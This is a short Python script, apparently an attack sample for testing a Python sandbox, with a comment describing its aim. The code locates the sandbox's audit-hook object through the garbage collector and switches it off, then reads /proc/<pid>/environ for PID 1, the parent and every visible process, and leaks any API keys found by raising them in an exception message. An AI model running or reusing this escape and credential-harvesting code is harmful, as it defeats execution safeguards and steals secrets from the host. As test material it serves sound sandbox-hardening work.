# Attempts: find the audit hook's state among all live objects (gc.get_objects), switch it
# off, then read /proc/1/environ and /proc/<ppid>/environ and every other process's environ
# it can see, leaking any API key through the exception.
from typing import sys

gc = sys.modules["gc"]
for obj in gc.get_objects():
    if type(obj).__name__ == "Sandbox":
        obj.active = False
os = sys.modules["os"]
loot = []
for pid in sorted({1, os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]}):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            loot.append((pid, f.read().decode(errors="replace")))
    except OSError as exc:
        loot.append((pid, str(exc)))
raise RuntimeError(f"environ: {loot}")
